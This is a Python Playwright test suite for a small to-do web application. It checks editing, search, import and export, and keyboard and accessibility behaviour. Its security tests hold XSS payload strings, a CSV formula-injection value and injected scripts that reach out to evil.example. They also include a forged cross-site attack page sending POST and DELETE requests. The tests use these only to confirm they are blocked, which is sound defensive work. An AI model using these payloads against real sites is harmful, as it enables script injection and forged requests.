"""The pages in Chromium, against nginx, gunicorn and MariaDB as the images run them: with scripts and without."""

import re
import shutil
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect, sync_playwright

from tests.conftest import running_site

pytestmark = pytest.mark.slow

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")

TABLES = ("entry_words", "entries", "deleted_entries", "idempotency_keys")


@pytest.fixture(scope="module")
def chromium():
    if CHROMIUM is None:
        pytest.skip("needs Chromium (Debian: apt-get install chromium)")
    with sync_playwright() as playwright:
        options = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=options)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def site(mariadb, tmp_path_factory):
    given = mariadb.database() | {"WEB_RATE_LIMIT": "1000"}
    with running_site(tmp_path_factory.mktemp("browser"), **given) as site:
        site.database = given["DATABASE_NAME"]
        yield site


@pytest.fixture
def visit(chromium, site, mariadb):
    """Return a function that opens a page as a new visitor of an application without entries."""
    mariadb.run(*(f"DELETE FROM {site.database}.{table}" for table in TABLES))
    contexts, complaints = [], []

    def foreign(url):
        return not url.startswith((f"http://127.0.0.1:{site.port}/", "data:", "about:"))

    def visit(path="/", **options):
        contexts.append(chromium.new_context(base_url=f"http://127.0.0.1:{site.port}", **options))
        page = contexts[-1].new_page()
        page.set_default_timeout(10_000)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("console", lambda message: complaints.append(message.text))
        page.on("dialog", lambda dialog: (complaints.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: foreign(request.url) and complaints.append(f"asked {request.url}"))
        page.goto(path)
        return page

    yield visit
    for context in contexts:
        context.close()
    # Chromium reports answers such as 409 and 422 in the same words as a policy that refused something.
    assert not [text for text in complaints if "Failed to load resource" not in text]


@pytest.fixture(params=[True, False], ids=["with scripts", "without"])
def page(visit, request):
    return visit(java_script_enabled=request.param)


def add(page, *titles, **fields):
    """Store entries by way of the form, without showing it."""
    for title in titles:
        form = {"title": title, **fields}
        answer = page.request.post("/entries/new", form=form, headers={"Origin": page.url.rstrip("/")}, max_redirects=0)
        assert answer.status == 303
    page.reload()


def titles(page):
    return page.locator("h2 a").all_inner_texts()


def button(page, name):
    return page.get_by_role("button", name=name, exact=True)


def test_add_edit_mark_delete_undo(page):
    page.get_by_role("link", name="Add entry").click()
    page.get_by_label("Title").fill("Buy milk")
    page.get_by_label("Description").fill("two litres")
    button(page, "Add entry").click()
    expect(page.get_by_text("Entry added.").first).to_be_visible()
    assert titles(page) == ["Buy milk"]

    page.get_by_role("link", name="Buy milk").click()
    page.get_by_label("Title").fill("Buy oat milk")
    button(page, "Save changes").click()
    expect(page.get_by_role("link", name="Buy oat milk")).to_be_visible()

    button(page, "Mark as done Buy oat milk").click()
    expect(page.locator("li.done")).to_have_count(1)
    button(page, "Open again Buy oat milk").click()
    expect(page.locator("li.done")).to_have_count(0)

    button(page, "Delete Buy oat milk").click()
    expect(page.get_by_text("Nothing here yet").first).to_be_visible()
    button(page, "Undo").click()
    expect(page.get_by_role("link", name="Buy oat milk")).to_be_visible()


def test_filter_search_order_and_pages(page):
    add(page, *[f"entry {n:02}" for n in range(52)], "needle in it")
    page.get_by_role("link", name="Next").click()
    expect(page.get_by_role("link", name="entry 00")).to_be_visible()
    page.get_by_role("link", name="Previous").click()
    expect(page.get_by_role("link", name="needle in it")).to_be_visible()
    button(page, "Mark as done needle in it").click()
    page.get_by_role("navigation", name="Status").get_by_role("link", name="Done").click()
    expect(page).to_have_url(re.compile(r"/\?status=done$"))
    expect(page.locator("h2 a")).to_have_text(["needle in it"])
    page.get_by_role("link", name="All").click()
    expect(page.locator("h2 a")).to_have_count(50)
    page.get_by_label("Search entries").fill("entry 1")
    page.get_by_label("Search entries").press("Enter")
    expect(page.locator("h2 a")).to_have_count(11 if "entry 01" in titles(page) else 10)
    page.goto("/?sort=title")
    expect(page.locator("h2 a").first).to_have_text("entry 00")
    page.goto("/?q=zebra")
    expect(page.get_by_text("Nothing found").first).to_be_visible()


def test_bulk_change_and_undo(page):
    add(page, "a", "b", "c")
    expect(button(page, "Mark as done")).to_be_hidden()
    for name in ("a", "c"):
        page.get_by_role("checkbox", name=name, exact=True).check()
    button(page, "Mark as done").click()
    expect(page.locator("li.done")).to_have_count(2)
    button(page, "Undo").click()
    expect(page.locator("li.done")).to_have_count(0)
    page.get_by_role("checkbox", name="b", exact=True).check()
    button(page, "Delete").click()
    expect(page.locator("h2 a")).to_have_text(["c", "a"])
    button(page, "Undo").click()
    expect(page.locator("h2 a")).to_have_text(["c", "b", "a"])


def test_conflict_in_two_tabs(page):
    add(page, "before")
    page.get_by_role("link", name="before").click()
    other = page.context.new_page()
    other.goto(page.url)
    other.get_by_label("Title").fill("theirs")
    button(other, "Save changes").click()
    expect(other.get_by_text("Changes saved.").first).to_be_visible()
    page.get_by_label("Title").fill("mine")
    button(page, "Save changes").click()
    expect(page.get_by_text("Somebody changed this entry")).to_be_visible()
    expect(page.get_by_label("Title")).to_have_value("mine")
    expect(page.get_by_role("definition").first).to_have_text("theirs")
    button(page, "Save mine").click()
    expect(page.locator("h2 a")).to_have_text(["mine"])


def test_import_and_export(page, tmp_path):
    page.get_by_role("link", name="Import", exact=True).click()
    table = {"name": "a.csv", "mimeType": "text/csv", "buffer": b"title,status\nfirst,open\n=second,done\n,open\n"}
    page.get_by_label("CSV file").set_input_files(table)
    button(page, "Only check the file").click()
    expect(page.get_by_text("2 entries can be imported, 1 cannot.").first).to_be_visible()
    if page.evaluate("document.documentElement.className") != "quick":  # the page is a new one, and its field empty
        page.get_by_label("CSV file").set_input_files(table)
    button(page, "Import").click()
    expect(page.get_by_text("2 entries imported, 1 refused.").first).to_be_visible()
    page.get_by_role("link", name="Look at the list").click()
    expect(page.locator("h2 a")).to_have_text(["=second", "first"])
    with page.expect_download() as download:
        page.get_by_role("link", name="CSV").click()
    download.value.save_as(tmp_path / "entries.csv")
    assert "'=second,,done" in (tmp_path / "entries.csv").read_text("utf-8-sig")


def test_only_the_keyboard(visit):
    page = visit()
    add(page, "first", "second")
    press = page.keyboard.press
    press("Tab")
    expect(page.get_by_role("link", name="Skip to content")).to_be_focused()
    sent = []
    page.on("request", lambda request: sent.append(request.url) if request.resource_type != "other" else None)
    press("Enter")
    expect(page.locator("main")).to_be_focused()
    for _ in range(6):  # three tabs, search, order, the first checkbox
        press("Tab")
    expect(page.get_by_role("checkbox", name="second")).to_be_focused()
    press("Enter")
    press("Space")
    expect(button(page, "Mark as done")).to_be_visible()
    assert not sent, "neither the link within the page nor Enter in a checkbox asks the server"
    press("Tab")
    press("Space")
    expect(page.locator("li.done")).to_have_count(1)
    expect(button(page, "Open again second")).to_be_focused()
    expect(page.locator("#live")).to_have_text("Marked as done.")
    press("Tab")
    press("Tab")
    expect(button(page, "Delete second")).to_be_focused()
    press("Enter")
    expect(button(page, "Delete first")).to_be_focused()
    expect(page.locator("#live")).to_have_text("Entry deleted.")
    button(page, "Undo").focus()
    press("Enter")
    expect(page.locator("h2 a")).to_have_text(["second", "first"])
    page.get_by_role("link", name="first").focus()
    press("Enter")
    expect(page.get_by_label("Title")).to_have_value("first")
    page.get_by_label("Title").fill("")
    press("Enter")
    expect(page.get_by_label("Title")).to_be_focused()
    expect(page.get_by_label("Title")).to_have_attribute("aria-describedby", "title-error")


def test_search_while_typing_keeps_the_field_and_the_rest_of_the_page(visit):
    page = visit()
    add(page, "apple", "banana")
    page.evaluate("document.body.dataset.kept = 'yes'")
    page.get_by_label("Search entries").press_sequentially("ban", delay=60)
    expect(page.locator("h2 a")).to_have_text(["banana"])
    expect(page).to_have_url(re.compile("q=ban"))
    expect(page.get_by_label("Search entries")).to_be_focused()
    page.get_by_label("Search entries").press_sequentially("ana", delay=60)
    expect(page.get_by_label("Search entries")).to_have_value("banana")
    page.get_by_label("Order").select_option("oldest")
    expect(page).to_have_url(re.compile("sort=oldest"))
    page.get_by_role("link", name="Open", exact=True).click()
    expect(page).to_have_url(re.compile("status=open"))
    page.go_back()
    expect(page).to_have_url(re.compile(r"^(?!.*status).*sort=oldest"))
    expect(page.locator("h2 a")).to_have_text(["banana"])
    assert page.evaluate("document.body.dataset.kept") == "yes", "no page was loaded"


def test_selection_survives_a_change_beside_it_and_all_selects_all(visit):
    page = visit()
    add(page, "a", "b", "c")
    page.get_by_role("checkbox", name="a", exact=True).check()
    button(page, "Mark as done b").click()
    expect(page.locator("li.done")).to_have_count(1)
    expect(page.get_by_role("checkbox", name="a", exact=True)).to_be_checked()
    page.get_by_label("All on this page").check()
    button(page, "Delete").click()
    expect(page.get_by_text("Nothing here yet").first).to_be_visible()


def test_an_answer_that_does_not_come_changes_nothing_and_is_told(visit):
    page = visit()
    add(page, "kept")
    page.context.set_offline(True)
    button(page, "Delete kept").click()
    expect(page.locator("#live")).to_contain_text("the server did not answer")
    page.context.set_offline(False)
    assert titles(page) == ["kept"]


def test_a_file_that_is_too_large_is_refused_in_words(page, tmp_path):
    """By nginx, whose page has no part for a report."""
    file = tmp_path / "large.csv"
    file.write_bytes(b"title\n" + b"x" * 6_000_000)
    page.goto("/entries/import")
    page.get_by_label("CSV file").set_input_files(file)
    button(page, "Import").click()
    expect(page.get_by_role("heading", name="Too much at once")).to_be_visible()
    page.get_by_role("link", name="Back to the list").click()
    expect(page.get_by_text("Nothing here yet").first).to_be_visible()


def open_conflict(page):
    page.goto("/")
    page.locator("h2 a").first.click()
    page.evaluate("document.querySelector('[name=version]').value = 99")
    page.get_by_label("Title").fill("mine")
    button(page, "Save changes").click()


def open_report(page):
    page.goto("/entries/import")
    table = {"name": "a.csv", "mimeType": "text/csv", "buffer": b"title,status\nfirst,open\nx,maybe\n"}
    page.get_by_label("CSV file").set_input_files(table)
    button(page, "Only check the file").click()
    page.get_by_role("table").wait_for()


def open_error(page):
    page.goto("/entries/new")
    button(page, "Add entry").click()


def open_refusal_of_nginx(page):
    page.goto("/entries/new")
    page.evaluate("document.getElementById('description').value = 'x'.repeat(100_000)")
    button(page, "Add entry").click()
    page.get_by_role("heading", name="Too much at once").wait_for()


def open_notice(page):
    page.goto("/")
    page.get_by_role("checkbox", name="done entry").check()
    button(page, "Delete an entry with a rather long title that goes on").click()
    page.locator(".notice").first.wait_for()


STATES = {
    "list": lambda page: page.goto("/"),
    "nothing found": lambda page: page.goto("/?q=zebra&status=open"),
    "refused search": lambda page: page.goto("/?q=a+b+c+d+e+f+g+h+i"),
    "add": lambda page: page.goto("/entries/new"),
    "refused form": open_error,
    "conflict": open_conflict,
    "import": lambda page: page.goto("/entries/import"),
    "report": open_report,
    "deleted": lambda page: page.goto("/deleted"),
    "api": lambda page: page.goto("/api/v1/docs"),
    "not found": lambda page: page.goto("/nothing"),
    "refused by nginx": open_refusal_of_nginx,
    "notice": open_notice,
    "empty list": lambda page: page.goto("/"),
}


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_page_is_accessible_and_fits(visit, mariadb, site, scheme):
    """By the rules of axe-core, and nothing is wider than the narrowest screen."""
    page = visit(color_scheme=scheme, reduced_motion="reduce")
    add(page, "done entry", status="done")
    add(page, "an entry with a rather long title that goes on", description="and a description")
    add(page, "deleted " + "x" * 150)
    button(page, "Delete deleted " + "x" * 150).click()
    page.locator(".notice").first.wait_for()
    for name, show in STATES.items():
        if name == "empty list":
            mariadb.run(f"DELETE FROM {site.database}.entries")
        show(page)
        found = Axe().run(page)
        assert not found.response["violations"], f"{name}: {found.generate_report()}"
        assert found.response["passes"], name
        for width in (360, 390, 1280, 1920):
            page.set_viewport_size({"width": width, "height": 800})
            assert page.evaluate("document.documentElement.scrollWidth") <= width, f"{name} at {width}"


# Each would run a script, or lead elsewhere, where it is taken for markup: in text, in an attribute, in a title.
MARKUP = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(2)>'><svg onload=alert(3)>",
    "</title></textarea></style><!--><script>alert(4)</script>",
    "x\" autofocus onfocus=alert(5) x=' autofocus onfocus=alert(6) y",
    "x onmouseover=alert(7) y=z",
    "<iframe srcdoc='<script>parent.alert(8)</script>'></iframe>",
    "<base href=//evil.example/><script src=a.js></script>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><style>@import '//evil.example/a.css'</style>",
    "&lt;script&gt;alert(9)&lt;/script&gt; &amp; \\u003cscript\\u003ealert(10)",
    "{{constructor.constructor('alert(11)')()}}",
    "javascript:alert(12)//\u202e<script>alert(13)</script>",
]
REFLECTING = [
    "/?q={}",
    "/?q=a+b+c+d+e+f+g+h+i+{}",
    "/?status={}&sort={}",
    "/?cursor={}&{}=a",
    "/entries/{}/edit",
    "/static/{}",
    "/api/v1/entries?search={}&limit={}&{}=a",
]


def test_nothing_stored_becomes_part_of_a_page(visit):
    """Whatever is not taken for text is a complaint of the browser: of a script that runs, or that the policy stops."""
    page = visit()
    add(page, *MARKUP, description="\n".join(MARKUP))
    assert titles(page) == MARKUP[::-1]
    addresses = [link.get_attribute("href") for link in page.locator("h2 a").all()]
    page.get_by_label("Search entries").fill("alert")
    page.get_by_label("Search entries").press("Enter")
    expect(page).to_have_url(re.compile("q=alert"))
    for address, text in zip(addresses, MARKUP[::-1], strict=True):
        page.goto(address)
        expect(page.get_by_label("Title")).to_have_value(text)
        expect(page.get_by_label("Description")).to_have_value("\n".join(MARKUP))
    page.evaluate("document.getElementById('title').value += 'x'.repeat(200)")
    button(page, "Save changes").click()
    expect(page.locator("#title-error")).to_be_visible()
    open_conflict(page)
    expect(page.get_by_role("definition").first).to_have_text(MARKUP[-1])
    page.goto("/entries/import")
    lines = "".join(f'"{text.replace(chr(34), chr(34) * 2)}",{number}\n' for number, text in enumerate(MARKUP))
    page.get_by_label("CSV file").set_input_files(
        {"name": f"{MARKUP[1]}.csv", "mimeType": "text/csv", "buffer": f"title,status\n{lines}".encode()}
    )
    button(page, "Import").click()
    expect(page.locator("tbody tr")).to_have_count(len(MARKUP))
    page.goto("/")
    page.locator("li input").first.check()
    page.get_by_label("All on this page").check()
    page.get_by_role("group", name="Selected entries").get_by_role("button", name="Delete").click()
    expect(page.locator(".notice p").first).to_have_text(f"{len(MARKUP)} entries deleted.")
    page.goto("/deleted")
    assert page.locator("h2").all_inner_texts() == MARKUP[::-1]


def test_nothing_sent_becomes_part_of_a_page(visit):
    page = visit()
    for path in REFLECTING:
        for text in MARKUP[:3]:
            page.goto(path.replace("{}", quote(text, safe="")))


# Pages of each kind: of the application and of nginx, of people and of programs.
PAGES = ["/", "/entries/new", "/api/v1/docs", "/nothing", "/static/none"]
# Done to a page that is open, as if it had been written into it. Each would set window.hit, or leave.
PUT_INTO = """async () => {
    window.refused = [];
    addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
    const here = document.body;
    here.insertAdjacentHTML("beforeend", '<img src="/none" onerror="window.hit = 1"><base href="//evil.example">');
    here.insertAdjacentHTML("beforeend", '<a id="go" href="javascript:window.hit = 2">a</a><object data="/"></object>');
    here.insertAdjacentHTML("beforeend", '<iframe srcdoc="<script>parent.hit = 3<\\/script>"></iframe>');
    here.insertAdjacentHTML("beforeend", '<form id="leave" action="//evil.example"><p style="color: red">a</p></form>');
    for (const [name, value] of [["textContent", "window.hit = 4"], ["src", "data:text/javascript,window.hit = 5"]]) {
        here.append(Object.assign(document.createElement("script"), { [name]: value }));
    }
    document.getElementById("go").click();
    document.getElementById("leave").submit();
    await fetch("//evil.example").catch(() => 0);
    await new Promise((done) => setTimeout(done, 50));
}"""
STOPPED = {
    "script-src-attr",
    "script-src-elem",
    "style-src-attr",
    "base-uri",
    "form-action",
    "connect-src",
    "object-src",
}


def test_what_would_become_part_of_a_page_is_not_run(chromium, site):
    """The policy is the second guard: where text was taken for markup after all, it stops what that would do."""
    context = chromium.new_context(base_url=f"http://127.0.0.1:{site.port}")
    page = context.new_page()
    for path in PAGES:
        page.goto(path)
        page.evaluate(PUT_INTO)
        assert page.evaluate("window.hit") is None, path
        assert set(page.evaluate("window.refused")) >= STOPPED, path
        assert page.url.endswith(path)
    context.close()


# What a page of somebody else can do to SITE: send what forms send, ask as scripts ask, include, frame.
ATTACK = """<!doctype html><title>evil</title><body><iframe name="into"></iframe>FRAMES<script>
async function attack(got) {
    const body = "title=evil&action=delete&id=1&list=";
    for (const path of ["/entries/new", "/entries/1/delete", "/entries/bulk", "/api/v1/entries"]) {
        for (const type of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data; boundary=x"]) {
            const headers = { "Content-Type": type };
            await fetch("SITE" + path, { method: "POST", mode: "no-cors", headers, body }).catch(() => 0);
        }
    }
    const headers = { "Content-Type": "application/json", "If-Match": "*" };
    for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
        const asked = fetch("SITE/api/v1/entries/1", { method, headers, body: '{"title": "evil"}' });
        await asked.then(() => got.push(method), () => 0);
    }
    await fetch("SITE/entries.json").then((answer) => got.push(answer.status), () => 0);
    const script = Object.assign(document.createElement("script"), { src: "SITE/entries.json" });
    document.body.append(script);
    await new Promise((next) => { script.onload = () => next(got.push("script")); script.onerror = next; });
    const form = { method: "post", action: "SITE/entries/1/delete", target: "into" };
    document.body.appendChild(Object.assign(document.createElement("form"), form)).submit();
    document.title = got.length ? "got in: " + got : "kept out";
}
addEventListener("load", () => attack([]));
</script>"""


@contextmanager
def evil_page(site):
    """A site of somebody else on this machine, whose page does what it can to ours; yields its port."""
    here = f"http://127.0.0.1:{site.port}"
    frames = "".join(f'<iframe src="{here}{path}"></iframe>' for path in PAGES)
    page = ATTACK.replace("SITE", here).replace("FRAMES", frames).encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *words):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_of_somebody_else_can_neither_change_nor_read_nor_frame_anything(chromium, site, visit, host):
    """On another port, which the browser calls the same site, and under another name."""
    ours = visit()
    add(ours, "kept")
    before = len(site.requests("web"))
    with evil_page(site) as port:
        context = chromium.new_context()
        page = context.new_page()
        page.goto(f"http://{host}:{port}/")
        expect(page).to_have_title("kept out", timeout=30_000)
        page.wait_for_load_state("networkidle")
        assert {frame.url for frame in page.frames[1:]} == {"chrome-error://chromewebdata/"}
        context.close()
    ours.reload()
    assert titles(ours) == ["kept"]
    sent = [line for line in site.requests("web")[before:] if line["method"] == "POST"]
    assert {line["path"] for line in sent} >= {"/entries/new", "/entries/1/delete", "/entries/bulk", "/api/v1/entries"}
    assert {line["status"] for line in sent} == {403}
